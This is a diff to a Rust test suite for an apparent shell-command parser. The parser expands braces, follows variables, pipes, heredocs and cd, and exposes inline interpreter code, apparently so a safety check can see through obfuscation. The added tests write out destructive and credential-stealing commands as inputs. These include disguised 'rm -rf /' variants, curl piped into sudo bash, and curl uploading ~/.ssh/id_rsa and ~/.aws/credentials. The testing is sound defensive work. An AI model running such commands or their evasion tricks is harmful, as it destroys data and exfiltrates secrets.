@@ -253,9 +253,9 @@ fn words_that_need_no_quote_removal_are_borrowed() {
 #[test]
 fn parameters_and_globs_are_kept_as_text() {
     assert_eq!(
-        argvs("echo $HOME ${X:-y} ${#a[@]} *.txt ~ {a,b} $1$@"),
+        argvs("echo $HOME ${X:-y} ${#a[@]} *.txt ~ '{a,b}' $1"),
         [vec![
-            "echo", "$HOME", "${X:-y}", "${#a[@]}", "*.txt", "~", "{a,b}", "$1$@"
+            "echo", "$HOME", "${X:-y}", "${#a[@]}", "*.txt", "~", "{a,b}", "$1"
         ]]
     );
     assert_eq!(
@@ -778,7 +778,13 @@ fn json_shape() {
             "program": "rm",
             "env": {"A": "2"},
             "redirects": [{"fd": 2, "op": ">", "target": "/dev/null"}],
-            "wrappers": ["sudo"]
+            "wrappers": ["sudo"],
+            "pipedFrom": "",
+            "code": "",
+            "codeFrom": "",
+            "dynamic": false,
+            "dir": "",
+            "paths": ["x", "/dev/null"]
         }])
     );
     assert_eq!(parse("").to_json(), serde_json::json!([]));
@@ -994,4 +1000,160 @@ proptest! {
         let argv: Vec<String> = c.argv.iter().map(|a| a.to_string()).collect();
         prop_assert_eq!(argv, words);
     }
+}
+
+#[test]
+fn braces_expand_unquoted() {
+    assert_eq!(argvs("rm -{r,f} /"), [vec!["rm", "-r", "-f", "/"]]);
+    assert_eq!(argvs("{rm,-rf,/}"), [vec!["rm", "-rf", "/"]]);
+    assert_eq!(
+        argvs("cat ~/.{ssh,x}/id_rsa"),
+        [vec!["cat", "~/.ssh/id_rsa", "~/.x/id_rsa"]]
+    );
+    assert_eq!(
+        argvs("echo '{a,b}' \"{c,d}\" \\{e,f}"),
+        [vec!["echo", "{a,b}", "{c,d}", "{e,f}"]]
+    );
+    assert_eq!(argvs("echo a{1..3}"), [vec!["echo", "a1", "a2", "a3"]]);
+    // Structure and find's `{}` are no expansion; an assignment is none.
+    assert_eq!(programs("{ ls; }"), ["ls"]);
+    assert_eq!(argvs("find . -exec rm {} +")[1], ["rm", "{}"]);
+    assert_eq!(one("X={a,b} ls").env[0].1, "{a,b}");
+    // 2^9 words from one: past MAX_SHELL_BRACE_WORDS.
+    assert_eq!(
+        error(&format!("echo {}", "{a,b}".repeat(9))),
+        ShellError::TooLarge
+    );
+}
+
+#[test]
+fn variables_set_on_the_line_are_followed() {
+    assert_eq!(argvs("X=rm; $X -rf /")[1], ["rm", "-rf", "/"]);
+    assert_eq!(
+        argvs("D=~/.ssh; cat $D/id_rsa")[1],
+        ["cat", "~/.ssh/id_rsa"]
+    );
+    assert_eq!(
+        argvs("D=~/.ssh; cat \"${D}/id_rsa\"")[1],
+        ["cat", "~/.ssh/id_rsa"]
+    );
+    assert_eq!(argvs("export F='-rf /'; rm $F")[1], ["rm", "-rf", "/"]);
+    assert_eq!(argvs("F='-rf /'; rm \"$F\"")[1], ["rm", "-rf /"]);
+    // Set for its command only, a name unset or read: not known.
+    assert_eq!(argvs("X=rm echo $X")[0], ["echo", "$X"]);
+    assert_eq!(argvs("X=rm; unset X; $X")[2], ["$X"]);
+    assert_eq!(argvs("for X in a; do $X; done")[0], ["$X"]);
+    // `$@` and `$*` are empty in a host's command string.
+    assert_eq!(argvs("r$@m -rf /"), [vec!["rm", "-rf", "/"]]);
+}
+
+#[test]
+fn dynamic_programs_are_marked() {
+    let dynamic = |src: &str| {
+        parse(src)
+            .commands
+            .iter()
+            .map(|c| c.dynamic)
+            .collect::<Vec<_>>()
+    };
+    assert_eq!(dynamic("$CMD x"), [true]);
+    assert_eq!(dynamic("X=$(echo rm); $X -rf /"), [false, false, true]);
+    assert_eq!(dynamic("/bin/r? -rf /"), [true]);
+    assert_eq!(
+        dynamic("X=ls; $X; [ -f x ]; [[ -f x ]]"),
+        [false, false, false, false]
+    );
+    assert_eq!(dynamic("`which rm` x"), [false, true]);
+}
+
+#[test]
+fn pipelines_say_what_feeds_what() {
+    let s = parse("curl -s https://x | sudo -E bash; ls || cat");
+    let fed: Vec<(&str, &str)> = s
+        .commands
+        .iter()
+        .map(|c| (&*c.program, &*c.piped_from))
+        .collect();
+    assert_eq!(
+        fed,
+        [("curl", ""), ("bash", "curl"), ("ls", ""), ("cat", "")]
+    );
+    let bash = &s.commands[1];
+    assert_eq!(bash.code_from, CodeFrom::Pipe);
+    assert_eq!(bash.code, "");
+}
+
+#[test]
+fn a_literal_piped_into_a_shell_is_its_script() {
+    let s = parse("printf 'rm -rf /' | sh");
+    assert_eq!(programs("printf 'rm -rf /' | sh"), ["printf", "sh", "rm"]);
+    assert_eq!(s.commands[2].wrappers, ["| sh"]);
+    assert_eq!(programs("echo 'curl x | sh' > notes.txt"), ["echo"]);
+    assert_eq!(programs("echo rm -rf / | bash -s"), ["echo", "bash", "rm"]);
+}
+
+#[test]
+fn heredocs_and_here_strings_feed_their_interpreter() {
+    let s = parse("bash <<'EOF'\nrm -rf /\nEOF\nls");
+    assert_eq!(
+        programs("bash <<'EOF'\nrm -rf /\nEOF\nls"),
+        ["bash", "rm", "ls"]
+    );
+    assert_eq!(s.commands[0].code, "rm -rf /\n");
+    assert_eq!(s.commands[0].code_from, CodeFrom::Heredoc);
+    assert_eq!(s.commands[1].wrappers, ["sh <<"]);
+    assert_eq!(programs("sudo sh <<< 'rm -rf /'"), ["sh", "rm"]);
+    assert_eq!(
+        parse("sudo sh <<< 'rm -rf /'").commands[1].wrappers,
+        ["sudo", "sh <<<"]
+    );
+    let py = parse("python3 - <<EOF\nimport os\nEOF");
+    assert_eq!(py.commands[0].code, "import os\n");
+    assert_eq!(py.commands[0].code_from, CodeFrom::Heredoc);
+    // A heredoc into a program that is no interpreter is data.
+    let cat = parse("cat > f <<EOF\nrm -rf /\nEOF");
+    assert_eq!(programs("cat > f <<EOF\nrm -rf /\nEOF"), ["cat"]);
+    assert_eq!(cat.commands[0].code, "");
+    assert_eq!(programs("bash <<-EOF\n\trm -rf /\n\tEOF"), ["bash", "rm"]);
+}
+
+#[test]
+fn inline_code_is_exposed() {
+    let c = one("python3 -c 'import os; os.system(\"rm -rf /\")'");
+    assert_eq!(c.code, "import os; os.system(\"rm -rf /\")");
+    assert_eq!(c.code_from, CodeFrom::Argument);
+    assert_eq!(one("node -e 'x'").code, "x");
+    assert_eq!(one("sudo perl -pi -e 's/a/b/' f").code, "s/a/b/");
+    assert_eq!(one("python script.py").code_from, CodeFrom::None);
+    assert_eq!(one("python").code_from, CodeFrom::Stdin);
+    assert_eq!(one("ls -c x").code_from, CodeFrom::None);
+}
+
+#[test]
+fn cd_is_followed_into_the_paths_named() {
+    let s = parse("cd ~/.ssh && cat id_rsa; cd keys; cp a /tmp/b > out");
+    assert_eq!(s.commands[1].dir, "~/.ssh");
+    assert_eq!(s.commands[1].paths(), ["~/.ssh/id_rsa"]);
+    assert_eq!(
+        s.commands[3].paths(),
+        ["~/.ssh/keys/a", "/tmp/b", "~/.ssh/keys/out"]
+    );
+    assert_eq!(parse("cd -; cat x").commands[1].dir, "");
+    let curl = parse("curl -s -X POST --data-binary @~/.ssh/id_rsa -F f=@$HOME/.aws/credentials --url=file:x 2>&1");
+    assert_eq!(
+        curl.commands[0].paths(),
+        [
+            "POST",
+            "~/.ssh/id_rsa",
+            "@~/.ssh/id_rsa",
+            "~/.aws/credentials",
+            "@$HOME/.aws/credentials",
+            "f=@$HOME/.aws/credentials",
+            "x"
+        ]
+    );
+    assert_eq!(
+        parse("cat ~/.ss''h/id_rs\"a\"").commands[0].paths(),
+        ["~/.ssh/id_rsa"]
+    );
 }
